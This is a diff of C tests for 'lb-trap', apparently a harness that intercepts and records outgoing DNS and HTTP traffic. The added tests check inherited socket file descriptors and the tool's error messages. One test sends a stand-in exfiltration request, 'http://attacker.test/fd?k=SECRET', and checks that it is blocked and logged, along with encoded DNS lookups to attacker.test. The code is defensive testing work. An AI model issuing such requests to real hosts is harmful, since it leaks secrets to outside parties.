@@ -72,6 +72,63 @@ spawn(const char *const argv[], int *out_fd, int *err_fd)
 	return pid;
 }
 
+/*
+ * Spawns argv as spawn() does, with FDS[0..N-1] as its fds 3, 4, ...
+ * (copied high first, so that no source is overwritten by another's
+ * target). The pid, or -1.
+ */
+static pid_t
+spawn_fds(const char *const argv[], const int *fds, int n, int *out_fd,
+    int *err_fd)
+{
+	posix_spawn_file_actions_t fa;
+	int o[2], e[2], high[8], i;
+	pid_t pid;
+
+	if (pipe2(o, O_CLOEXEC) < 0 || pipe2(e, O_CLOEXEC) < 0)
+		return -1;
+	posix_spawn_file_actions_init(&fa);
+	posix_spawn_file_actions_adddup2(&fa, o[1], 1);
+	posix_spawn_file_actions_adddup2(&fa, e[1], 2);
+	posix_spawn_file_actions_addopen(&fa, 0, "/dev/null", O_RDONLY, 0);
+	for (i = 0; i < n; i++) {
+		high[i] = fcntl(fds[i], F_DUPFD_CLOEXEC, 100);
+		posix_spawn_file_actions_adddup2(&fa, high[i], 3 + i);
+	}
+	if (posix_spawn(&pid, argv[0], &fa, NULL, (char *const *)argv,
+		(char *const *)clean_env) != 0)
+		pid = -1;
+	posix_spawn_file_actions_destroy(&fa);
+	for (i = 0; i < n; i++)
+		close(high[i]);
+	close(o[1]);
+	close(e[1]);
+	*out_fd = o[0];
+	*err_fd = e[0];
+	return pid;
+}
+
+/* Reads one line from fd (10 s at most). malloc'd. */
+static char *
+read_line(int fd)
+{
+	struct pollfd p = { .fd = fd, .events = POLLIN };
+	char line[512];
+	size_t n = 0;
+	long long deadline = now_ms() + 10000;
+
+	while (n < sizeof(line) - 1 && (n == 0 || line[n - 1] != '\n') &&
+	    now_ms() < deadline) {
+		if (poll(&p, 1, 1000) <= 0)
+			continue;
+		if (read(fd, line + n, 1) <= 0)
+			break;
+		n++;
+	}
+	line[n] = '\0';
+	return strdup(line);
+}
+
 /* Reads fd until end of stream or the deadline. malloc'd. */
 static char *
 drain(int fd, long long deadline)
@@ -702,6 +759,174 @@ test_sim(void)
 }
 
 /*
+ * A UDP socket and a TCP one (bound, not yet listening) on one loopback
+ * port, as the harness binds DNS's for the trap; *port is that port.
+ */
+static void
+dns_pair(int *ufd, int *tfd, int *port)
+{
+	struct sockaddr_in sa;
+	socklen_t sl;
+	int i;
+
+	for (i = 0; i < 20; i++) {
+		sa = loopback(0);
+		sl = sizeof(sa);
+		*ufd = socket(AF_INET, SOCK_DGRAM, 0);
+		bind(*ufd, (struct sockaddr *)&sa, sizeof(sa));
+		getsockname(*ufd, (struct sockaddr *)&sa, &sl);
+		*tfd = socket(AF_INET, SOCK_STREAM, 0);
+		if (bind(*tfd, (struct sockaddr *)&sa, sizeof(sa)) == 0)
+			break;
+		close(*ufd);
+		close(*tfd);
+	}
+	*port = ntohs(sa.sin_port);
+}
+
+/*
+ * DNS and HTTP served on sockets the test bound and hands down as fds 3
+ * (DNS, UDP), 4 (DNS, TCP, not yet listening) and 5 (HTTP, listening):
+ * the ready line names their addresses, both are served and recorded.
+ * Then the errors of those options.
+ */
+static void
+test_inherited(void)
+{
+	struct sockaddr_in sa = loopback(0);
+	socklen_t sl = sizeof(sa);
+	char recdir[400], cadir[400], path[500], want[300], proxy[64];
+	const char *argv[16];
+	char *line, *got, *code, *out, *err;
+	int fds[3], dport, hport, ofd, efd, st, rc;
+	pid_t pid;
+
+	snprintf(recdir, sizeof(recdir), "%s/fdrec", tmpdir);
+	snprintf(cadir, sizeof(cadir), "%s/fdca", tmpdir);
+	dns_pair(&fds[0], &fds[1], &dport);
+	fds[2] = socket(AF_INET, SOCK_STREAM, 0);
+	bind(fds[2], (struct sockaddr *)&sa, sizeof(sa));
+	listen(fds[2], 8);
+	getsockname(fds[2], (struct sockaddr *)&sa, &sl);
+	hport = ntohs(sa.sin_port);
+
+	argv[0] = trap_bin;
+	argv[1] = "--records";
+	argv[2] = recdir;
+	argv[3] = "--ca-out";
+	argv[4] = cadir;
+	argv[5] = "--dns-udp-fd";
+	argv[6] = "3";
+	argv[7] = "--dns-tcp-fd";
+	argv[8] = "4";
+	argv[9] = "--http-fd";
+	argv[10] = "5";
+	argv[11] = NULL;
+	pid = spawn_fds(argv, fds, 3, &ofd, &efd);
+	ok(pid > 0, "fds: started");
+	if (pid <= 0)
+		return;
+	line = read_line(ofd);
+	snprintf(want, sizeof(want),
+	    "lb-trap: listening dns 127.0.0.1:%d http 127.0.0.1:%d\n", dport,
+	    hport);
+	is_str(line, want, "fds: the ready line names the inherited sockets");
+	free(line);
+	close(fds[0]);
+	close(fds[1]);
+	close(fds[2]);
+
+	test_dns(dport);
+	snprintf(proxy, sizeof(proxy), "http://127.0.0.1:%d", hport);
+	rc = curl(proxy, NULL, "http://attacker.test/fd?k=SECRET", NULL, &code);
+	is_int(rc, 0, "fds: curl through --http-fd exits 0");
+	is_str(code, "403", "fds: 403");
+	free(code);
+	snprintf(path, sizeof(path), "%s/egress.jsonl", recdir);
+	ok(await_record(path, "\"http://attacker.test/fd?k=SECRET\""),
+	    "fds: the http request is recorded");
+	kill(pid, SIGTERM);
+	ok(waitpid(pid, &st, 0) == pid && WIFEXITED(st) && WEXITSTATUS(st) == 0,
+	    "fds: SIGTERM ends it with 0");
+	got = drain(efd, now_ms() + 1000);
+	is_str(got, "", "fds: nothing on stderr");
+	free(got);
+	close(ofd);
+	close(efd);
+	got = records(path);
+	ok(strstr(got,
+	       "\"proto\":\"udp\",\"name\":"
+	       "\"ONSWG4TFOQ.attacker.test\"") != NULL &&
+		strstr(got,
+		    "\"proto\":\"tcp\",\"name\":"
+		    "\"6f6f.attacker.test\"") != NULL,
+	    "fds: both DNS queries are recorded");
+	free(got);
+
+	/* Errors: each flag named. */
+	dns_pair(&fds[0], &fds[1], &dport);
+	fds[2] = socket(AF_INET, SOCK_DGRAM, 0);
+	argv[10] = "5";
+	pid = spawn_fds(argv, fds, 3, &ofd, &efd);
+	out = drain(ofd, now_ms() + 10000);
+	err = drain(efd, now_ms() + 10000);
+	ok(waitpid(pid, &st, 0) == pid && WIFEXITED(st) && WEXITSTATUS(st) == 2,
+	    "fds: a UDP --http-fd, exit 2");
+	is_str(err,
+	    "lb-trap: cannot use --http-fd '5': expected an open TCP socket's "
+	    "fd (try 'lb-trap --help')\n",
+	    "fds: a UDP --http-fd, message");
+	free(out);
+	free(err);
+	close(ofd);
+	close(efd);
+	argv[6] = "4";
+	argv[8] = "3";
+	pid = spawn_fds(argv, fds, 3, &ofd, &efd);
+	out = drain(ofd, now_ms() + 10000);
+	err = drain(efd, now_ms() + 10000);
+	ok(waitpid(pid, &st, 0) == pid && WIFEXITED(st) && WEXITSTATUS(st) == 2,
+	    "fds: TCP for --dns-udp-fd, exit 2");
+	is_str(err,
+	    "lb-trap: cannot use --dns-udp-fd '4': expected an open UDP "
+	    "socket's fd (try 'lb-trap --help')\n",
+	    "fds: TCP for --dns-udp-fd, message");
+	free(out);
+	free(err);
+	close(ofd);
+	close(efd);
+	close(fds[0]);
+	close(fds[1]);
+	close(fds[2]);
+	argv[6] = "97";
+	argv[7] = NULL;
+	rc = run(argv, &out, &err);
+	is_int(rc, 2, "fds: a closed --dns-udp-fd, exit 2");
+	is_str(err,
+	    "lb-trap: cannot use --dns-udp-fd '97': expected an open UDP "
+	    "socket's fd (try 'lb-trap --help')\n",
+	    "fds: a closed --dns-udp-fd, message");
+	free(out);
+	free(err);
+	fds[0] = socket(AF_INET, SOCK_DGRAM, 0);
+	argv[6] = "3";
+	pid = spawn_fds(argv, fds, 1, &ofd, &efd);
+	out = drain(ofd, now_ms() + 10000);
+	err = drain(efd, now_ms() + 10000);
+	ok(waitpid(pid, &st, 0) == pid && WIFEXITED(st) && WEXITSTATUS(st) == 2,
+	    "fds: --dns-udp-fd alone, exit 2");
+	is_str(err,
+	    "lb-trap: options '--dns-udp-fd' and '--dns-tcp-fd' go together "
+	    "(try 'lb-trap --help')\n",
+	    "fds: --dns-udp-fd alone, message");
+	free(out);
+	free(err);
+	close(ofd);
+	close(efd);
+	close(fds[0]);
+}
+
+/*
  * lb-net --sim changes a namespace only when lo is its only interface: on
  * this machine's own (as root in CI), it must refuse before any change.
  */
@@ -798,6 +1023,7 @@ main(void)
 	test_running();
 	test_errors();
 	test_sim();
+	test_inherited();
 	test_net_sealed();
 	nftw(tmpdir, rm_one, 16, FTW_DEPTH | FTW_PHYS);
 	return tap_done();
